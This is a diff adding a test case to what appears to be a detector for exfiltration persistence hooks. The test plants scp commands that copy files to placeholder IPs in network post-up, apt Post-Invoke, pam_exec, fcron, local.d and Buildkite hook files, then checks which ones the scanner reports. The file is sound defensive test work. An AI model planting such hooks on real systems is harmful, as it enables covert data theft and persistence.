@@ -563,6 +563,33 @@ TEST_CASE("registered: one job is told once") {
   CHECK(told(find_registered(inventory, image, auexfil::test::rules().tools)) == c.found);
 }
 
+TEST_CASE("registered: what lies where hooks do, and whose jobs are not in the image") {
+  const Image image(Files{
+      {"/etc/network/interfaces", "iface e inet dhcp\n post-up scp /a b@192.0.2.1:x\n"},
+      {"/etc/apt/apt.conf.d/9x", "DPkg::Post-Invoke {\"scp /a b@192.0.2.2:x\";};\n"},
+      {"/etc/pam.d/sshd", "session optional pam_exec.so /opt/x\n"},
+      {"/opt/x", "#!/bin/sh\nscp /a b@192.0.2.3:x\n"},
+      {"/var/spool/fcron/root.orig", "1 1 * * * scp /a b@192.0.2.4:x\n"},
+      {"/etc/local.d/a.start", "#!/bin/sh\nscp /a b@192.0.2.5:x\n"},
+      {"/etc/local.d/README", "#!/bin/sh\nscp /a b@192.0.2.6:x\n"},
+      {"/etc/buildkite-agent/buildkite-agent.cfg", "x=1\n"},
+      {"/etc/buildkite-agent/hooks/post-command", "#!/bin/bash\nscp /a b@192.0.2.7:x\n"},
+      {"/etc/buildkite-agent/hooks/a.sample", "#!/bin/bash\nscp /a b@192.0.2.8:x\n"},
+  });
+  const Inventory inventory = collect(image);
+  Unfollowed unfollowed;
+  CHECK(told(find_registered(inventory, image, auexfil::test::rules().tools, &unfollowed)) ==
+        Lines{"/var/spool/fcron/root.orig:1: scp out 192.0.2.4",
+              "/etc/buildkite-agent/hooks/post-command in /etc/buildkite-agent/hooks/post-command: "
+              "scp out 192.0.2.7",
+              "/etc/local.d/a.start in /etc/local.d/a.start: scp out 192.0.2.5",
+              "/etc/network/interfaces:2: scp out 192.0.2.1",
+              "/etc/apt/apt.conf.d/9x:1: scp out 192.0.2.2",
+              "/etc/pam.d/sshd:1 in /opt/x: scp out 192.0.2.3"});
+  CHECK(unfollowed.runners == 1);
+  CHECK(unfollowed.first_runner == "/etc/buildkite-agent/buildkite-agent.cfg");
+}
+
 TEST_CASE("registered: when each ran last") {
   const Image image(Files{
       {"/etc/debian_version", "12\n"},
